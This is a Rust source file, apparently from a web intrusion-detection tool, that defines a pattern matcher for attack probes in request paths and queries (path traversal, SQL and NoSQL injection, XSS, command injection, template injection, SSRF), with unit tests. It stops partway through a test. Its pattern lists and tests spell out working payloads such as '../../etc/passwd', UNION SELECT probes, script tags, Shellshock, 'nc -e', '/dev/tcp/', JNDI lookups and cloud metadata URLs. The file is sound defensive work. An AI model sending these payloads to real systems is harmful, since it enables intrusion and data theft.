//! Attack payloads in a request's path and query: the `payload` rule.
//!
//! Attack tools look for injection points by sending payloads to pages
//! that exist, in their query strings (`?id=1' AND 1=1-- -`,
//! `?file=../../etc/passwd`, `?q=<script>alert(1)</script>`); the page
//! answers 200 and no rule that looks at statuses sees anything. CrowdSec's
//! base HTTP collection detects the same (`http-sqli-probing`,
//! `http-xss-probing`, `http-path-traversal-probing`).
//!
//! The request target is percent-decoded until it stops changing (double
//! encoding), `+` is a space in the query, and the text is lowered, with
//! runs of whitespace and SQL's empty comments (`/**/`) made one space and
//! NUL bytes dropped ([`normalize_into`]). One Aho-Corasick pass over it
//! finds every pattern of [`PATTERNS`]; a pattern counts when its
//! [`Check`] holds at that place (a word boundary, an operand after `OR`,
//! a command after `;`, a closing brace...), which keeps ordinary text
//! (`rock and roll`, `O'Brien`, `a;b`) out.
//!
//! Most requests never get here: a path and query made only of letters,
//! digits and a few punctuation bytes ([`crate::path::uri::plain_path`],
//! [`crate::path::uri::plain_query`]) cannot hold any pattern, which a
//! unit test checks for every pattern.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};

/// A payload class: one bit each.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[repr(u8)]
pub enum Class {
    /// Path traversal and local file inclusion (`../../etc/passwd`,
    /// `php://filter`).
    Traversal = 1,
    /// SQL injection (`' OR 1=1--`, `UNION SELECT`, `SLEEP(5)`), and
    /// NoSQL operators (`[$ne]`).
    Sqli = 2,
    /// Cross-site scripting (`<script`, `onerror=`, `javascript:`,
    /// `alert(`).
    Xss = 4,
    /// Command injection (`;id`, `|cat /etc/passwd`, `$(sleep 5)`).
    Cmdi = 8,
    /// Server-side template and expression injection (`{{7*7}}`,
    /// `${jndi:...}`, `%{(#...)}`).
    Ssti = 16,
    /// Server-side request forgery (cloud metadata addresses, `gopher://`,
    /// out-of-band callback domains).
    Ssrf = 32,
}

impl Class {
    /// Every class, in bit order.
    pub const ALL: [Class; 6] = [
        Class::Traversal,
        Class::Sqli,
        Class::Xss,
        Class::Cmdi,
        Class::Ssti,
        Class::Ssrf,
    ];

    /// The class's name in events and log lines.
    pub fn name(self) -> &'static str {
        match self {
            Class::Traversal => "traversal",
            Class::Sqli => "sqli",
            Class::Xss => "xss",
            Class::Cmdi => "cmdi",
            Class::Ssti => "ssti",
            Class::Ssrf => "ssrf",
        }
    }
}

/// The names of the classes in `bits`, joined by `+` (`sqli+xss`).
///
/// ```
/// use warden_core::detect::payload::names;
/// assert_eq!(names(2 | 4), "sqli+xss");
/// assert_eq!(names(0), "");
/// ```
pub fn names(bits: u8) -> String {
    Class::ALL
        .iter()
        .filter(|c| bits & **c as u8 != 0)
        .map(|c| c.name())
        .collect::<Vec<_>>()
        .join("+")
}

/// What must hold where a pattern is found, for it to count.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Check {
    /// Nothing more.
    Any,
    /// No letter, digit or `_` just before it.
    Start,
    /// No letter, digit or `_` just before or just after it.
    Word,
    /// After it (and spaces or `(`), a comparison of numbers or quoted
    /// strings (`1=1`, `'a'='a`, `8652>1`) or a sub-select: `AND 1=1`.
    Tautology,
    /// After it, an SQL operand: a digit, a quote, `(`, `@`, or one of
    /// `true false not null sleep benchmark exists if select`: `' OR 1`.
    Operand,
    /// After it, what follows `UNION SELECT` in an injection: a digit,
    /// `null`, `(`, `@`, a quote, `*`, `0x`, a function, or a comma soon.
    Select,
    /// After it (a shell separator) and spaces, a command
    /// ([`COMMANDS`]) as a whole word: `;id`, `` `whoami` ``.
    Command,
    /// After a single `|`: a command of [`COMMANDS`] with an argument
    /// (`|cat /etc/passwd`, `| uname -a`), or one of [`PIPE_COMMANDS`]
    /// alone. `|` separates values in ordinary queries
    /// (`fields=name|id`, `lang=go|php`, `sort=price|desc`), so a bare
    /// word after it is not enough.
    Pipe,
    /// An event handler attribute: after a space, `/`, a quote or `;`, and
    /// followed by `=`: ` onerror=`.
    Handler,
    /// A command ([`COMMANDS`]) after a line break, one that is not also
    /// an English word: `%0aid`, not `%0acat food`.
    Line,
    /// The closing bytes follow within 64 bytes: `{%...%}`.
    Close(&'static [u8]),
    /// The closing bytes follow within 64 bytes, and what is between
    /// computes (`*`, `(`, `:`, a quote, `[`, `__`) or names a template's
    /// internals (`config`, `self`, `request`): `{{7*7}}`, `${jndi:...}`,
    /// not a template's leftover `{{ item.url }}` in a broken link.
    Template(&'static [u8]),
    /// In the query (not the path).
    InQuery,
}

/// Commands that command-injection probes run.
pub const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ls",
    "env",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "nslookup",
    "ifconfig",
    "ipconfig",
    "hostname",
    "pwd",
    "perl",
    "python",
    "python3",
    "php",
    "ruby",
    "telnet",
    "busybox",
    "chmod",
    "rm",
    "tftp",
    "certutil",
    "powershell",
    "cmd",
    "systeminfo",
    "sudo",
    "nohup",
    "base64",
    "printf",
    "ps",
];

/// Commands that count alone after a single `|`: no query uses them as a
/// value.
pub const PIPE_COMMANDS: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "nslookup",
    "systeminfo",
    "busybox",
    "certutil",
    "netcat",
    "ncat",
];

/// Commands that are English words too: they count after `;`, `|`, `&&`,
/// a backquote or `$(`, not after a line break.
pub const WORD_COMMANDS: &[&str] = &[
    "cat", "echo", "sleep", "ping", "net", "dir", "type", "timeout", "which", "expr", "head",
    "tail", "more", "kill", "set",
];

use Check::*;
use Class::*;

/// The built-in patterns, lower case, as they appear in the normalized
/// text ([`normalize_into`]).
pub const PATTERNS: &[(Class, Check, &str)] = &[
    // path traversal and file inclusion (a `..` segment in the path is
    // found when the path is resolved)
    (Traversal, Any, "../.."),
    (Traversal, Any, "..\\.."),
    (Traversal, Any, "..\\/"),
    (Traversal, Any, "..;/"),
    (Traversal, Any, "etc/passwd"),
    (Traversal, Any, "etc/shadow"),
    (Traversal, Any, "etc\\passwd"),
    (Traversal, Any, "proc/self/"),
    (Traversal, Any, "/win.ini"),
    (Traversal, Any, "\\win.ini"),
    (Traversal, Any, "/boot.ini"),
    (Traversal, Any, "\\boot.ini"),
    (Traversal, Any, "/system.ini"),
    (Traversal, Any, "windows/system32"),
    (Traversal, Any, "windows\\system32"),
    (Traversal, Any, "c:\\windows"),
    (Traversal, Any, "c:/windows"),
    (Traversal, Any, "web-inf/web.xml"),
    (Traversal, Any, "web-inf\\web.xml"),
    (Traversal, Start, "php://"),
    (Traversal, Start, "phar://"),
    (Traversal, Start, "expect://"),
    (Traversal, Start, "zip://"),
    (Traversal, Start, "file:/"),
    // SQL injection: quotes closed, then a boolean operator
    (Sqli, Operand, "' or "),
    (Sqli, Operand, "' and "),
    (Sqli, Operand, "\" or "),
    (Sqli, Operand, "\" and "),
    (Sqli, Operand, "') or "),
    (Sqli, Operand, "') and "),
    (Sqli, Operand, "\") or "),
    (Sqli, Operand, "\") and "),
    (Sqli, Operand, "' xor "),
    (Sqli, Operand, "'or "),
    (Sqli, Operand, "'and "),
    (Sqli, Operand, "' || "),
    (Sqli, Operand, "' && "),
    // boolean tests on numbers (sqlmap's `AND 8652=8652`)
    (Sqli, Tautology, "and "),
    (Sqli, Tautology, "or "),
    (Sqli, Tautology, "xor "),
    (Sqli, Tautology, "and("),
    (Sqli, Tautology, "or("),
    (Sqli, Tautology, "&& "),
    (Sqli, Tautology, "|| "),
    (Sqli, Tautology, "having "),
    // comments after a quote, stacked queries
    (Sqli, Any, "'--"),
    (Sqli, Any, "' --"),
    (Sqli, Any, "\"--"),
    (Sqli, Any, "\" --"),
    (Sqli, Any, "'#"),
    (Sqli, Any, "' #"),
    (Sqli, Any, "\"#"),
    (Sqli, Any, "')--"),
    (Sqli, Any, "')#"),
    (Sqli, Any, "'/*"),
    (Sqli, Any, "-- -"),
    (Sqli, Any, "/*!"),
    (Sqli, Any, ";--"),
    (Sqli, Any, "'||("),
    (Sqli, Any, ";select "),
    (Sqli, Any, "; select "),
    (Sqli, Any, ";drop "),
    (Sqli, Any, "; drop "),
    (Sqli, Any, ";declare "),
    (Sqli, Any, "; declare "),
    (Sqli, Any, ";exec "),
    (Sqli, Any, "; exec "),
    (Sqli, Any, ";waitfor "),
    (Sqli, Any, "; waitfor "),
    // unions, sub-selects, functions and names only injections use
    (Sqli, Select, "union select "),
    (Sqli, Select, "union all select "),
    (Sqli, Select, "union distinct select "),
    (Sqli, Select, "union(select "),
    (Sqli, Select, "(select "),
    (Sqli, Start, "sleep("),
    (Sqli, Start, "pg_sleep("),
    (Sqli, Start, "benchmark("),
    (Sqli, Start, "randomblob("),
    (Sqli, Start, "extractvalue("),
    (Sqli, Start, "updatexml("),
    (Sqli, Start, "load_file("),
    (Sqli, Start, "gtid_subset("),
    (Sqli, Start, "json_keys(("),
    (Sqli, Start, "make_set("),
    (Sqli, Start, "generate_series("),
    (Sqli, Start, "sqlite_version("),
    (Sqli, Start, "pg_read_file("),
    (Sqli, Start, "exp(~("),
    (Sqli, Start, "concat(0x"),
    (Sqli, Start, "convert(int,"),
    (Sqli, Any, "@@version"),
    (Sqli, Any, "@@datadir"),
    (Sqli, Any, "@@hostname"),
    (Sqli, Word, "xp_cmdshell"),
    (Sqli, Start, "information_schema."),
    (Sqli, Word, "into outfile"),
    (Sqli, Word, "into dumpfile"),
    (Sqli, Word, "waitfor delay"),
    (Sqli, Word, "waitfor time"),
    (Sqli, Start, "dbms_pipe."),
    (Sqli, Start, "dbms_lock."),
    (Sqli, Start, "utl_inaddr."),
    (Sqli, Start, "utl_http."),
    (Sqli, Word, "procedure analyse("),
    // NoSQL operators in parameters (`user[$ne]=x`, `{"$gt":""}`)
    (Sqli, Any, "[$ne]"),
    (Sqli, Any, "[$gt]"),
    (Sqli, Any, "[$gte]"),
    (Sqli, Any, "[$lt]"),
    (Sqli, Any, "[$lte]"),
    (Sqli, Any, "[$nin]"),
    (Sqli, Any, "[$regex]"),
    (Sqli, Any, "[$where]"),
    (Sqli, Any, "[$exists]"),
    (Sqli, Any, "{\"$ne\""),
    (Sqli, Any, "{\"$gt\""),
    (Sqli, Any, "{\"$where\""),
    // cross-site scripting
    (Xss, Word, "<script"),
    (Xss, Word, "</script"),
    (Xss, Start, "javascript:"),
    (Xss, Start, "vbscript:"),
    (Xss, Any, "data:text/html"),
    (Xss, Any, "\"><"),
    (Xss, Any, "'><"),
    (Xss, Any, "document.cookie"),
    (Xss, Any, "document.domain"),
    (Xss, Any, "document.write("),
    (Xss, Any, "fromcharcode("),
    (Xss, Start, "alert("),
    (Xss, Start, "prompt("),
    (Xss, Start, "confirm("),
    (Xss, Start, "alert`"),
    (Xss, Start, "prompt`"),
    (Xss, Start, "confirm`"),
    (Xss, Handler, "onerror"),
    (Xss, Handler, "onload"),
    (Xss, Handler, "onmouseover"),
    (Xss, Handler, "onmouseenter"),
    (Xss, Handler, "onmouseout"),
    (Xss, Handler, "onmousemove"),
    (Xss, Handler, "onmousedown"),
    (Xss, Handler, "onmouseup"),
    (Xss, Handler, "onclick"),
    (Xss, Handler, "ondblclick"),
    (Xss, Handler, "oncontextmenu"),
    (Xss, Handler, "onauxclick"),
    (Xss, Handler, "onfocus"),
    (Xss, Handler, "onfocusin"),
    (Xss, Handler, "onblur"),
    (Xss, Handler, "ontoggle"),
    (Xss, Handler, "onanimationstart"),
    (Xss, Handler, "onanimationend"),
    (Xss, Handler, "onanimationiteration"),
    (Xss, Handler, "ontransitionend"),
    (Xss, Handler, "onbegin"),
    (Xss, Handler, "onpageshow"),
    (Xss, Handler, "onresize"),
    (Xss, Handler, "onscroll"),
    (Xss, Handler, "onstart"),
    (Xss, Handler, "onpointerover"),
    (Xss, Handler, "onpointerenter"),
    (Xss, Handler, "onpointerdown"),
    (Xss, Handler, "onwheel"),
    (Xss, Handler, "oninput"),
    (Xss, Handler, "onchange"),
    (Xss, Handler, "onsubmit"),
    (Xss, Handler, "onkeydown"),
    (Xss, Handler, "onkeyup"),
    (Xss, Handler, "onkeypress"),
    (Xss, Handler, "ondrag"),
    (Xss, Handler, "ondragstart"),
    (Xss, Handler, "oncopy"),
    (Xss, Handler, "onpaste"),
    (Xss, Handler, "onhashchange"),
    (Xss, Handler, "onmessage"),
    (Xss, Handler, "onpopstate"),
    (Xss, Handler, "onunload"),
    (Xss, Handler, "onbeforeunload"),
    (Xss, Handler, "onafterprint"),
    (Xss, Handler, "onbeforeprint"),
    (Xss, Handler, "onselect"),
    (Xss, Handler, "onshow"),
    (Xss, Handler, "onplay"),
    (Xss, Handler, "oncanplay"),
    (Xss, Handler, "onloadstart"),
    (Xss, Handler, "srcdoc"),
    (Xss, Handler, "formaction"),
    // command injection: a shell separator, then a command
    (Cmdi, Command, ";"),
    (Cmdi, Pipe, "|"),
    (Cmdi, Command, "&&"),
    (Cmdi, Command, "`"),
    (Cmdi, Command, "$("),
    (Cmdi, Line, "\n"),
    (Cmdi, Any, "/bin/sh"),
    (Cmdi, Any, "/bin/bash"),
    (Cmdi, Any, "/bin/busybox"),
    (Cmdi, Any, "/dev/tcp/"),
    (Cmdi, Start, "cmd.exe"),
    (Cmdi, Start, "cmd /c"),
    (Cmdi, Start, "powershell.exe"),
    (Cmdi, Start, "bash -c"),
    (Cmdi, Start, "bash -i"),
    (Cmdi, Start, "nc -e"),
    (Cmdi, Any, "$(("),
    (Cmdi, Any, "${ifs"),
    (Cmdi, Any, "$ifs$"),
    (Cmdi, Any, "() {"),
    // template and expression injection
    (Ssti, Template(b"}}"), "{{"),
    (Ssti, Close(b"%}"), "{%"),
    (Ssti, Template(b"}"), "${"),
    (Ssti, Template(b"}"), "#{"),
    (Ssti, Template(b"}"), "*{"),
    (Ssti, Any, "<%="),
    (Ssti, Any, "%{("),
    (Ssti, Any, "%{#"),
    (Ssti, Any, "t(java.lang."),
    (Ssti, Any, "@java.lang."),
    (Ssti, Any, "class.module.classloader"),
    // server-side request forgery: metadata services, odd schemes,
    // out-of-band callback domains
    (Ssrf, InQuery, "169.254.169.254"),
    (Ssrf, InQuery, "metadata.google.internal"),
    (Ssrf, InQuery, "100.100.100.200"),
    (Ssrf, InQuery, "fd00:ec2::254"),
    (Ssrf, InQuery, "/latest/meta-data"),
    (Ssrf, InQuery, "/computemetadata/"),
    (Ssrf, InQuery, "gopher://"),
    (Ssrf, InQuery, "dict://"),
    (Ssrf, InQuery, "ldap://"),
    (Ssrf, InQuery, "ldaps://"),
    (Ssrf, InQuery, "rmi://"),
    (Ssrf, InQuery, "jar:http"),
    (Ssrf, InQuery, "jar:file"),
    (Ssrf, InQuery, "netdoc:"),
    (Ssrf, InQuery, "tftp://"),
    (Ssrf, InQuery, ".oast."),
    (Ssrf, InQuery, "interact.sh"),
    (Ssrf, InQuery, "burpcollaborator.net"),
    (Ssrf, InQuery, "oastify.com"),
    (Ssrf, InQuery, "dnslog.cn"),
    (Ssrf, InQuery, ".ceye.io"),
];

/// The compiled patterns.
pub struct Payloads {
    ac: AhoCorasick,
}

impl Default for Payloads {
    fn default() -> Payloads {
        Payloads::new()
    }
}

fn word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

impl Payloads {
    /// Compiles [`PATTERNS`].
    ///
    /// ```
    /// use warden_core::detect::payload::{Class, Payloads};
    /// let p = Payloads::new();
    /// assert_eq!(p.scan(b"/item?id=1 and 8652=8652-- -", 5), Class::Sqli as u8);
    /// assert_eq!(p.scan(b"/search?q=rock and roll", 7), 0);
    /// ```
    pub fn new() -> Payloads {
        let ac = AhoCorasickBuilder::new()
            .match_kind(MatchKind::Standard)
            .kind(Some(AhoCorasickKind::DFA))
            .build(PATTERNS.iter().map(|p| p.2))
            .expect("the built-in payload patterns compile");
        Payloads { ac }
    }

    /// The classes (bits of [`Class`]) of the payloads in `text`, a
    /// request target normalized by [`normalize_into`]; its query starts
    /// at `query_at` (`text.len()` when there is none).
    pub fn scan(&self, text: &[u8], query_at: usize) -> u8 {
        let all = Class::ALL.iter().fold(0u8, |a, c| a | *c as u8);
        let mut found = 0u8;
        for m in self.ac.find_overlapping_iter(text) {
            let (class, check, pat) = PATTERNS[m.pattern().as_usize()];
            if found & class as u8 != 0 {
                continue;
            }
            if holds(check, pat.as_bytes(), text, m.start(), m.end(), query_at) {
                found |= class as u8;
                if found == all {
                    break;
                }
            }
        }
        found
    }
}

/// Whether `check` holds for a match of `pat` at `s..e` of `text`.
fn holds(check: Check, pat: &[u8], text: &[u8], s: usize, e: usize, query_at: usize) -> bool {
    let before = s.checked_sub(1).map(|i| text[i]);
    let after = text.get(e).copied();
    let starts_word = pat.first().copied().is_some_and(word);
    let start_ok = !starts_word || !before.is_some_and(word);
    let rest = &text[e..];
    match check {
        Any => true,
        Start => start_ok,
        Word => start_ok && !after.is_some_and(word),
        Tautology => start_ok && tautology(rest),
        Operand => operand(rest),
        Select => select_tail(rest),
        Command => command(rest, true),
        Pipe => before != Some(b'|') && after != Some(b'|') && pipe(rest),
        Line => command(rest, false),
        Handler => {
            matches!(
                before,
                Some(b' ' | b'/' | b'"' | b'\'' | b';' | b'\n' | b'`')
            ) && rest.strip_prefix(b" ").unwrap_or(rest).first() == Some(&b'=')
        }
        Close(c) => memchr::memmem::find(&rest[..rest.len().min(64)], c).is_some(),
        Template(c) => match memchr::memmem::find(&rest[..rest.len().min(64)], c) {
            Some(i) => computes(&rest[..i]),
            None => false,
        },
        InQuery => s >= query_at,
    }
}

fn skip_spaces(mut t: &[u8]) -> &[u8] {
    while let [b' ', r @ ..] = t {
        t = r;
    }
    t
}

/// `1=1`, `'a'='a'`, `(8652>1`, `1 like 1`, `(select`: what follows a
/// boolean operator in an injection.
fn tautology(t: &[u8]) -> bool {
    let mut t = skip_spaces(t);
    while let [b'(', r @ ..] = t {
        t = skip_spaces(r);
    }
    if t.starts_with(b"select ") || t.starts_with(b"sleep(") {
        return true;
    }
    // an operand: digits, or a short quoted string
    let n = match t.first() {
        Some(b'0'..=b'9') => t.iter().take_while(|b| b.is_ascii_digit()).count(),
        Some(&q @ (b'\'' | b'"')) => match t[1..t.len().min(18)].iter().position(|&b| b == q) {
            Some(i) => i + 2,
            None => return false,
        },
        _ => return false,
    };
    let mut t = &t[n..];
    while let [b')' | b' ', r @ ..] = t {
        t = r;
    }
    matches!(t.first(), Some(b'=' | b'<' | b'>'))
        || t.starts_with(b"!=")
        || t.starts_with(b"like ")
        || t.starts_with(b"rlike ")
        || t.starts_with(b"between ")
        || t.starts_with(b"is ")
}

/// After `' OR `: an SQL operand.
fn operand(t: &[u8]) -> bool {
    let t = skip_spaces(t);
    match t.first() {
        Some(b'0'..=b'9' | b'\'' | b'"' | b'(' | b'@' | b'-') => true,
        Some(_) => [
            &b"true"[..],
            b"false",
            b"not ",
            b"null",
            b"sleep",
            b"benchmark",
            b"exists",
            b"if(",
            b"select ",
        ]
        .iter()
        .any(|w| {
            t.starts_with(w)
                && (w.ends_with(b" ")
                    || w.ends_with(b"(")
                    || !t.get(w.len()).is_some_and(|&b| word(b)))
        }),
        None => false,
    }
}

/// After `UNION SELECT `: what injections select.
fn select_tail(t: &[u8]) -> bool {
    let t = skip_spaces(t);
    if matches!(
        t.first(),
        Some(b'0'..=b'9' | b'(' | b'@' | b'\'' | b'"' | b'*' | b'-')
    ) {
        return true;
    }
    const WORDS: &[&[u8]] = &[
        b"null",
        b"0x",
        b"concat",
        b"char",
        b"group_concat",
        b"version",
        b"user(",
        b"database(",
        b"count(",
        b"case ",
        b"load_file",
        b"sleep",
        b"table_name",
        b"column_name",
        b"username",
        b"password",
        b"from ",
    ];
    WORDS.iter().any(|w| t.starts_with(w)) || t[..t.len().min(24)].contains(&b',')
}

/// What a template injection puts between the braces: arithmetic, a call,
/// a lookup (`jndi:`), a quote, an index, a dunder, or a template's own
/// objects.
fn computes(inner: &[u8]) -> bool {
    if inner
        .iter()
        .any(|b| matches!(b, b'*' | b'(' | b':' | b'\'' | b'"' | b'[' | b'+'))
        || memchr::memmem::find(inner, b"__").is_some()
    {
        return true;
    }
    let w = inner.trim_ascii();
    [
        &b"config"[..],
        b"self",
        b"_self",
        b"request",
        b"settings",
        b"dump",
    ]
    .contains(&w)
}

/// After a shell separator: spaces, a path to a bin directory maybe, then
/// a command of [`COMMANDS`] (or, with `words`, [`WORD_COMMANDS`]) as a
/// whole word (not followed by a letter, digit, `_`, `.`, `=` or `-`).
fn command(t: &[u8], words: bool) -> bool {
    let mut t = skip_spaces(t);
    for dir in [
        &b"/usr/local/bin/"[..],
        b"/usr/bin/",
        b"/bin/",
        b"/usr/sbin/",
        b"/sbin/",
    ] {
        if let Some(r) = t.strip_prefix(dir) {
            t = r;
            break;
        }
    }
    let n = t.iter().take_while(|&&b| b.is_ascii_alphanumeric()).count();
    if n == 0 || n > 12 {
        return false;
    }
    if t.get(n)
        .is_some_and(|&b| word(b) || matches!(b, b'.' | b'=' | b'-'))
    {
        return false;
    }
    let is = |c: &&str| c.as_bytes() == &t[..n];
    COMMANDS.iter().any(is) || words && WORD_COMMANDS.iter().any(is)
}

/// After a single `|`: see [`Check::Pipe`].
fn pipe(t: &[u8]) -> bool {
    let t = skip_spaces(t);
    let n = t.iter().take_while(|&&b| b.is_ascii_alphanumeric()).count();
    if n == 0
        || t.get(n)
            .is_some_and(|&b| word(b) || matches!(b, b'.' | b'=' | b'-'))
    {
        return false;
    }
    let name = &t[..n];
    let is = |c: &&str| c.as_bytes() == name;
    if PIPE_COMMANDS.iter().any(is) {
        return true;
    }
    // a command, a space, then an argument: an option or a path
    COMMANDS.iter().chain(WORD_COMMANDS).any(is)
        && matches!(t.get(n..n + 2), Some([b' ', b'-' | b'/' | b'$' | b'.']))
}

/// Normalizes a decoded request target for [`Payloads::scan`], appending
/// to `out`: ASCII lowered, NUL dropped, `\r` made `\n`, other whitespace
/// and SQL's empty comment `/**/` made spaces, runs of spaces made one.
pub fn normalize_into(decoded: &[u8], out: &mut Vec<u8>) {
    out.reserve(decoded.len());
    let mut i = 0;
    while i < decoded.len() {
        let b = match decoded[i] {
            0 => {
                i += 1;
                continue;
            }
            b'\t' | 0x0b | 0x0c | b' ' => b' ',
            b'\r' => b'\n',
            b'/' if decoded[i..].starts_with(b"/**/") => {
                i += 3;
                b' '
            }
            b => b.to_ascii_lowercase(),
        };
        i += 1;
        if b == b' ' && out.last() == Some(&b' ') {
            continue;
        }
        out.push(b);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::path::uri::{decode_fully, is_query_safe_byte, split};

    /// What the detector scans for a request target.
    fn classes(p: &Payloads, target: &str) -> u8 {
        let (path, query) = split(target.as_bytes());
        let (mut d, mut tmp, mut text) = (Vec::new(), Vec::new(), Vec::new());
        decode_fully(path, &mut d, &mut tmp, false, 3);
        normalize_into(&d, &mut text);
        let at = text.len();
        if let Some(q) = query {
            text.push(b'?');
            decode_fully(q, &mut d, &mut tmp, true, 3);
            normalize_into(&d, &mut text);
        }
        p.scan(&text, at)
    }

    #[test]
    fn patterns_a_plain_query_cannot_hold() {
        // A plain query is skipped without decoding, so a pattern made only
        // of the bytes it allows is found only when something else in the
        // query is not plain (a scheme's `://`, a quote, a space...): these
        // are the ones, each checked here so that a new one is a choice.
        let plain: Vec<&str> = PATTERNS
            .iter()
            .filter(|(_, check, p)| *check != Handler && p.bytes().all(is_query_safe_byte))
            .map(|p| p.2)
            .collect();
        assert_eq!(
            plain,
            [
                "xp_cmdshell",
                "information_schema.",
                "dbms_pipe.",
                "dbms_lock.",
                "utl_inaddr.",
                "utl_http.",
                "document.cookie",
                "document.domain",
                "&&",
                "cmd.exe",
                "powershell.exe",
                "class.module.classloader",
                "169.254.169.254",
                "metadata.google.internal",
                "100.100.100.200",
                ".oast.",
                "interact.sh",
                "burpcollaborator.net",
                "oastify.com",
                "dnslog.cn",
                ".ceye.io",
            ]
        );
        assert!(COMMANDS.iter().chain(WORD_COMMANDS).all(|c| c.len() <= 12));
    }

    #[test]
    fn what_attack_tools_send() {
        let p = Payloads::new();
        let t = Class::Traversal as u8;
        let s = Class::Sqli as u8;
        let x = Class::Xss as u8;
        let c = Class::Cmdi as u8;
        let e = Class::Ssti as u8;
        let f = Class::Ssrf as u8;
        for (target, want) in [
            // path traversal and file inclusion
            ("/page?file=../../../../etc/passwd", t),
            ("/page?file=..%2f..%2f..%2fetc%2fpasswd", t),
            ("/page?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", t),
            ("/page?file=....//....//etc/passwd", t),
            ("/page?f=..%c0%af..%c0%afwindows/win.ini", t),
            ("/page?f=..\\..\\..\\boot.ini", t),
            (
                "/page?f=php://filter/convert.base64-encode/resource=index.php",
                t,
            ),
            ("/page?f=file:///etc/shadow", t),
            ("/page?f=/proc/self/environ", t),
            // SQL injection
            ("/item?id=1' OR '1'='1", s),
            ("/item?id=1'+or+1=1--+-", s),
            ("/item?id=1%27%20AND%201%3D1--%20-", s),
            ("/item?id=1 AND 8652=8652", s),
            ("/item?id=1) AND 8652=8652 AND (3020=3020", s),
            (
                "/item?id=-1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x71)-- -",
                s,
            ),
            ("/item?id=1/**/union/**/select/**/1,2,3", s),
            ("/item?id=1 AND SLEEP(5)", s),
            ("/item?id=1;WAITFOR DELAY '0:0:5'--", s),
            (
                "/item?id=1' AND EXTRACTVALUE(1,CONCAT(0x5c,@@version))-- x",
                s,
            ),
            ("/item?id=(SELECT 1 FROM (SELECT SLEEP(5))a)", s),
            ("/login?user[$ne]=x&pass[$ne]=x", s),
            ("/item?id=1\" or \"a\"=\"a", s),
            // cross-site scripting
            ("/search?q=<script>alert(1)</script>", x),
            (
                "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                x,
            ),
            ("/search?q=\"><img src=x onerror=alert(1)>", x),
            ("/search?q=<svg/onload=alert`1`>", x),
            ("/search?q=javascript:alert(1)", x),
            ("/search?q=%253Cscript%253E", x),
            ("/search?q=<ScRiPt>prompt(1)</sCrIpT>", x),
            ("/search?q=' onmouseover='confirm(1)", x),
            ("/x/<script>alert(1)</script>", x),
            // command injection
            ("/ping?host=127.0.0.1;env;", c),
            ("/ping?host=127.0.0.1;id", c),
            ("/ping?host=x|cat /etc/passwd", c | t),
            ("/ping?host=x|whoami", c),
            ("/ping?host=x | uname -a", c),
            ("/ping?host=x|ls -la", c),
            ("/ping?host=x|id", 0),
            ("/ping?host=x%0aid", c),
            ("/ping?host=$(sleep 5)", c),
            ("/ping?host=`whoami`", c),
            ("/ping?host=x && /bin/uname -a", c),
            ("/ping?host=x;/usr/bin/id", c),
            ("/cgi-bin/test?x=() { :;}; echo vulnerable", c),
            ("/ping?host=x${IFS}id", c),
            ("/ping?host=x%0aecho%20hi", 0),
            ("/ping?host=x%0auname", c),
            // template and expression injection
            ("/hello?name={{7*7}}", e),
            ("/hello?name=${7*7}", e),
            ("/hello?name=<%= 7*7 %>", e),
            ("/hello?name={%25 print(1) %25}", e),
            ("/x?a=${jndi:ldap://x.oast.fun/a}", e | f),
            ("/x?redirect=%{(#_='multipart/form-data')}", e),
            // server-side request forgery
            ("/fetch?url=http://169.254.169.254/latest/meta-data/", f),
            ("/fetch?url=gopher://127.0.0.1:6379/_INFO", f),
            (
                "/fetch?url=http://metadata.google.internal/computeMetadata/v1/",
                f,
            ),
            ("/fetch?url=http://abc.burpcollaborator.net", f),
        ] {
            assert_eq!(
                classes(&p, target),
                want,
                "{target}: {}",
                names(classes(&p, target))
            );
        }
    }

    #[test]
    fn ordinary_requests_carry_none() {
        let p = Payloads::new();
        for target in [
            "/",
            "/search?q=rock+and+roll",
            "/search?q=black+or+white",
            "/search?q=O%27Brien",
            "/search?q=don%27t+or+won%27t",
            "/search?q=what+is+1%2B1",
            "/search?q=cats+and+2+dogs",
            "/search?q=select+the+best+option",
            "/search?q=union+select",
            "/search?q=sleep+apnea",
            "/search?q=C%2B%2B+templates",
            "/search?q=a%3Bb",
            "/search?q=tom%3Bcats",
            "/search?q=the+id+of+a+user",
            "/search?q=email+%26+calendar",
            "/search?q=50%25+off",
            "/search?q=how+to+use+%7B%7D+in+python",
            "/search?q=alert+box",
            "/search?q=onload+event",
            "/docs/api;jsessionid=ABC123?x=1",
            "/page;id=3?x=y",
            "/cart?items=1|2|3",
            "/cart?sort=price|desc",
            "/api/items?fields=name|id|type&page=3",
            "/jobs?lang=go|php|python|ruby",
            "/search?q=dogs+|+cats",
            "/search?q=a+||+b",
            "/callback?code=4/0AX4Xf&state=xyz&scope=email%20profile",
            "/login?next=%2Faccount%2Fsettings",
            "/login?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback",
            "/login?return=https://example.com/a?b=c&d=e",
            "/api/items?filter=%7B%22price%22%3A%7B%22gt%22%3A10%7D%7D",
            "/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
            "/t?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc+def/ghi==",
            "/img?src=https%3A%2F%2Fcdn.example.com%2Fa.png&w=640",
            "/wiki/O%27Brien_(surname)",
            "/wiki/File:Example.jpg",
            "/search?q=%22exact+phrase%22+-excluded",
            "/search?q=price+%3E+100+and+price+%3C+200",
            "/search?q=a+%3C+b",
            "/search?q=%3Cdiv%3E+element",
            "/search?q=file+path+c%3A%2Fusers",
            "/s?q=%E2%80%9Cquoted%E2%80%9D",
            "/product/123?utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale",
            "/search?q=1%3D1",
            "/search?q=it%27s+1+or+2",
            "/list/%7B%7B%20item.url%20%7D%7D",
            "/page?id=${id}&name={{name}}",
            "/comment?text=line+one%0Acat+food%0Aset+up",
        ] {
